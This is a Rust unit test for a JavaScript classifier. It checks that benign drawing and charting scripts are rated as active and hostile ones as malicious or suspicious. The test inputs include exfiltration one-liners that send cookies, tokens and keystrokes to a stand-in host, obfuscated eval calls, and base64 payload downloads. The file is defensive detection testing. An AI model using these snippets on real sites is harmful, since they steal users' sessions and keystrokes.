//! Is a script that steals told from one that draws?

use super::judge;
use crate::Severity;

#[test]
fn scripts_are_told_apart() {
    for (script, wanted) in [
        (
            "const d=[3,1];document.getElementById('c').getContext('2d').fillRect(0,0,1,1)",
            Severity::Active,
        ),
        (
            "Plotly.newPlot('a', [{x:[1]}], {}); window.onresize = () => Plotly.Plots.resize('a')",
            Severity::Active,
        ),
        (
            "fetch('https://a.invalid/?' + document.cookie)",
            Severity::Malicious,
        ),
        (
            "new Image().src = '//a.invalid/c?' + localStorage.token",
            Severity::Malicious,
        ),
        ("eval(atob('YQ=='))", Severity::Malicious),
        ("window['ev'+'al'](x)", Severity::Malicious),
        ("self[\"al\" + \"ert\"](1)", Severity::Malicious),
        (
            "navigator.serviceWorker.register('/sw.js')",
            Severity::Malicious,
        ),
        (
            "var b = atob('TVqQAAM'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'x.txt'",
            Severity::Malicious,
        ),
        (
            "a.download='r.iso'; a.href=URL.createObjectURL(new Blob([Uint8Array.from(x)]))",
            Severity::Malicious,
        ),
        (
            "const t = localStorage.getItem('theme'); fetch('data.json')",
            Severity::Active,
        ),
        (
            "if (localStorage.theme) dark(); const i = new Image(); i.src = 'logo.png'",
            Severity::Active,
        ),
        (
            "i = new Image(); i.src = 'a.png'; i.src = u + localStorage.token",
            Severity::Malicious,
        ),
        ("fetch('a?' + document.cookie)", Severity::Malicious),
        ("fetch(`a?${document.cookie}`)", Severity::Malicious),
        (
            "i = new Image(); i.setAttribute('src', u + document.cookie)",
            Severity::Malicious,
        ),
        (
            "a.href = URL.createObjectURL(new Blob([z])); a.download = 'results.zip'",
            Severity::Active,
        ),
        (
            "a.href = URL.createObjectURL(new Blob([atob(z)])); a.download = 'a.zip'",
            Severity::Malicious,
        ),
        ("location = 'https://a.invalid/login'", Severity::Suspicious),
        ("alert(1)", Severity::Suspicious),
        (
            "document.addEventListener('keydown', e => fetch('https://a.invalid/' + e.key))",
            Severity::Malicious,
        ),
        (
            "import('https://cdn.jsdelivr.net/npm/vega')",
            Severity::Active,
        ),
    ] {
        assert_eq!(judge(script).0, wanted, "{script}");
    }
}
